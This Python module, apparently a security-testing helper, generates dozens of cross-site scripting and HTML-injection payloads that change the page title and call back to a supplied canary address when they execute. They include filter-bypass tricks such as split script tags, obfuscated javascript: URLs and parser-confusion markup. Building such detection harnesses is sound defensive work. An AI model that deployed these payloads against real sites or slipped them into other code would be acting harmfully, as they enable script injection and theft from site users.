"""HTML that runs or loads something where it is shown as it is, then tells a canary or changes the title."""

from collections.abc import Iterator

_MARKUP = r"""
<script>CODE</script>
<script src="CANARY/src"></script>
<scr<script>ipt>CODE</scr</script>ipt>
<SCRIPT/x>CODE</SCRIPT>
<img src="CANARY/picture">
<img src=x onerror="CODE">
<img/src=x/onerror=CODE>
<img srcset="CANARY/set 1x" src=x>
<svg onload="CODE"></svg>
<svg><script>CODE</script></svg>
<svg><animate onbegin="CODE" attributeName=x dur=1s></svg>
<svg><image href="CANARY/svg"></image></svg>
<svg><foreignObject><img src=x onerror="CODE"></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CODE&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror="CODE"></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=CODE>"></noscript>
<template><img src=x onerror="CODE"></template>
<iframe src="CANARY/frame"></iframe>
<iframe srcdoc="<script>parent.document.title='PWNED'</script><img src=CANARY/srcdoc>"></iframe>
<object data="CANARY/object"></object>
<embed src="CANARY/embed">
<link rel="stylesheet" href="CANARY/style">
<style>@import url(CANARY/import); body { background: url(CANARY/background) }</style>
<p style="background-image:url(CANARY/inline)">x</p>
<table background="CANARY/table"><tr><td background="CANARY/cell">x</td></tr></table>
<body onload="CODE">
<base href="CANARY/">
<meta http-equiv="refresh" content="0;url=CANARY/refresh">
<video poster="CANARY/poster" src="CANARY/video" autoplay onerror="CODE"></video>
<audio src="CANARY/audio" autoplay onerror="CODE"></audio>
<details open ontoggle="CODE"><summary>x</summary></details>
<input autofocus onfocus="CODE">
<select autofocus onfocus="CODE"></select>
<textarea></textarea><img src=x onerror="CODE">
<title></title><img src=x onerror="CODE">
</title></head></main></body><img src=x onerror="CODE">
"><img src=x onerror="CODE">
'><img src=x onerror='CODE'>
--><img src=x onerror="CODE">
]]><img src=x onerror="CODE">
{{ 7*7 }}{% raw %}<img src=x onerror="CODE">
<a href="javascript:CODE" id=run>x</a>
<a href=" &#14; java&#10;script:CODE">x</a>
<a href="data:text/html,<script>CODE</script>">x</a>
<form action="CANARY/form"><button autofocus>x</button></form>
<marquee onstart="CODE">x</marquee>
<xmp><img src=x onerror="CODE"></xmp>
<plaintext><img src=x onerror="CODE">
"""

_ADDRESSES = (
    "javascript:CODE",
    " javascript:CODE",
    "java\nscript:CODE",
    "JaVaScRiPt:CODE//http://example.vn",
    "data:text/html,<script>CODE</script>",
    'http://example.vn/"><img src=x onerror="CODE">',
    "http://example.vn/'onmouseover='CODE",
)


def _code(canary: str) -> str:
    return f"document.title=String.fromCharCode(80,87,78,69,68);new Image().src=String.raw`{canary}/ran`"


def markup(canary: str) -> Iterator[str]:
    """Vectors for texts and HTML; they report to ``canary``, an address without a slash at its end."""
    for line in _MARKUP.strip().splitlines():
        yield line.replace("CODE", _code(canary)).replace("CANARY", canary)


def addresses(canary: str) -> Iterator[str]:
    """Vectors for addresses."""
    for address in _ADDRESSES:
        yield address.replace("CODE", _code(canary))
